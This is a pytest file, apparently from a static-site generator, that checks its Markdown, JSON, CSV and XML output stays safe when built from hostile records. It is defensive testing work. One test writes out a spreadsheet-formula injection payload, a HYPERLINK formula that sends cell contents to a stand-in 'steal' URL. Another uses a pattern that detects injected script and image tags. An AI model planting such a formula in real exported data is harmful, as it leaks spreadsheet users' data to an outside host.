"""Issue 7, output safety without a browser: the generated Markdown and the data files of a site
built from hostile records (see test_hardening_browser.hostile_project) keep every value as
text: no raw HTML tag from data in the Markdown, data files that parse, a feed that is XML."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest

from conftest import run
from test_hardening_browser import hostile_project, payload


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    project = hostile_project(tmp_path_factory.mktemp("hostile-output") / "p")
    result = run(project, "build", "--no-extract")
    assert result.exit_code == 0, result.output
    return project


def test_no_raw_html_tag_from_data_reaches_the_generated_markdown(built):
    leaks = []
    for page in sorted((built / "build" / "docs").rglob("*.md")):
        text = page.read_text(encoding="utf-8")
        for tag in re.findall(r"<(?:script|img|a)\b[^>]*__pwned[^>]*>", text):
            leaks.append(f"{page.relative_to(built)}: {tag[:100]}")
    assert not leaks, "\n".join(leaks)


def test_the_data_files_parse_and_hold_the_hostile_text_as_plain_strings(built):
    data = built / "site" / "data"
    events = json.loads((data / "events.json").read_text(encoding="utf-8"))
    evil = next(e for e in events if e["id"] == "evil-event")
    assert evil["summary"] == payload("event-summary")  # JSON keeps the value exactly; the page escapes it
    json.loads((data / "timeline.json").read_text(encoding="utf-8"))
    rows = list(csv.DictReader(io.StringIO((data / "events.csv").read_text(encoding="utf-8"))))
    assert {r["event_id"] for r in rows} >= {"evil-event"}
    feed = ET.parse(data / "feed.xml").getroot()  # hostile text must not break the XML
    assert "evil-event" in ET.tostring(feed, encoding="unicode")


def test_csv_cells_cannot_start_a_spreadsheet_formula(tmp_path):
    project = hostile_project(tmp_path / "p")
    event = project / "content" / "events" / "2020" / "evil-event.yml"
    text = re.sub(r"\ntitle: .*\n", '\ntitle: \'=HYPERLINK("https://example.org/steal?"&A1,"click")\'\n', event.read_text())
    event.write_text(text)
    assert run(project, "build", "--no-extract").exit_code == 0
    rows = list(csv.DictReader(io.StringIO((project / "site" / "data" / "events.csv").read_text(encoding="utf-8"))))
    text_columns = ("title", "summary", "actors", "actor1", "actor2", "location", "places", "agreements", "source_quotes", "sources")
    assert not [(r["event_id"], c) for r in rows for c in text_columns if r.get(c, "")[:1] in ("=", "+", "-", "@")]
